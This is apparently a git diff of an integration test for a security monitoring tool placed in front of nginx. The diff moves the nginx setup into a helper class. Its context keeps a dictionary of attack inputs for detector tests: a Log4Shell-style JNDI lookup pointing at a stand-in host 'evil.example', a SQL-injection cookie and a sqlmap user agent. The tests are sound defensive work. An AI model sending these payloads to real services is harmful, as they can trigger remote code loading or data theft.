@@ -18,9 +18,8 @@ from soc_copilot.domain.alerts import AlertFilter
 from soc_copilot.governance.database import Governance
 from tests.integration.conftest import PATIENCE_S, wait_until
 from tests.tools.checking import CheckingService
-from tests.tools.nginx import Nginx, listening
+from tests.tools.nginx_check import CLOSED, ONLY_REPORT, CheckingNginx
 
-DOCS = Path(__file__).resolve().parents[2] / "docs" / "nginx"
 PAGE = b"""<!doctype html><html lang="en"><head><title>Garden shop</title>
 <link rel="stylesheet" href="/style.css"></head><body><h1>Garden shop</h1>
 <img src="/img/rose.png" alt="A rose"><form method="post" action="/order">
@@ -132,36 +131,13 @@ class Site:
     """
 
     def __init__(self, folder: Path, checker: int, token: str, changes: dict[str, str]) -> None:
-        folder.mkdir()
         self.visitor = f"127.0.1.{next(NUMBERS)}"
         self.page = Page()
-        secret = folder / "token.conf"
-        secret.write_text(f'proxy_set_header Authorization "Bearer {token}";\n')
-        places = {"127.0.0.1:8765": f"127.0.0.1:{checker}"}
-        (folder / "http.conf").write_text(changed(DOCS / "http.conf", places))
-        places = {"/etc/nginx/soc-copilot-token.conf": str(secret), **PATIENT}
-        (folder / "server.conf").write_text(changed(DOCS / "server.conf", places | changes))
-        sock = listening()
-        self.port = sock.getsockname()[1]
-        config = f"""
-            events {{ worker_connections 128; }}
-            http {{
-                access_log off;
-                client_body_temp_path {folder}/body; proxy_temp_path {folder}/proxy;
-                fastcgi_temp_path {folder}/fastcgi; uwsgi_temp_path {folder}/uwsgi;
-                scgi_temp_path {folder}/scgi;
-                client_max_body_size 8m;
-                include {folder}/http.conf;
-                server {{
-                    listen 127.0.0.1:{self.port};
-                    include {folder}/server.conf;
-                    location / {{ proxy_pass http://127.0.0.1:{self.page.port}; }}
-                }}
-            }}
-        """
-        self.nginx = Nginx(folder, config, sock)
-        self.nginx.wait_ready()
-        self._connection = HTTPConnection("127.0.0.1", self.port, PATIENCE_S, (self.visitor, 0))
+        location = f"location / {{ proxy_pass http://127.0.0.1:{self.page.port}; }}"
+        self.nginx = CheckingNginx(folder, checker, token, location, changes)
+        self._connection = HTTPConnection(
+            "127.0.0.1", self.nginx.port, PATIENCE_S, (self.visitor, 0)
+        )
 
     def ask(
         self, target: str, method: str = "GET", body: bytes | None = None, **headers: str
@@ -180,15 +156,6 @@ class Site:
         self._connection.close()
         self.nginx.close()
         self.page.close()
-
-
-def changed(path: Path, changes: dict[str, str]) -> str:
-    """A shipped file with other words in place of some that stand in it once."""
-    text = path.read_text("utf-8")
-    for old, new in changes.items():
-        assert text.count(old) == 1, f'"{old}" stands {text.count(old)} times in {path.name}.'
-        text = text.replace(old, new)
-    return text
 
 
 class Builder:
@@ -252,19 +219,6 @@ ATTACKS = {
     "cookie": ("/", {"Cookie": "session=" + quote(SQLI)}),
     "agent": ("/", {"User_Agent": "${jndi:ldap://evil.example/a}"}),
     "scanner": ("/", {"User_Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}),
-}
-
-
-# A busy machine is no reason to fail.
-PATIENT = {
-    f"proxy_{what}_timeout {short};": f"proxy_{what}_timeout {PATIENCE_S:.0f}s;"
-    for what, short in (("connect", "250ms"), ("send", "1s"), ("read", "1s"))
-}
-OPEN = "    return 204;\n}\n\nlocation /soc-copilot/ {"
-CLOSED = {OPEN: OPEN.replace("204", "503")}
-ONLY_REPORT = {
-    "auth_request /soc-copilot/check;": "",
-    "mirror /soc-copilot/mirror-bodies;": "mirror /soc-copilot/mirror;",
 }
 
 
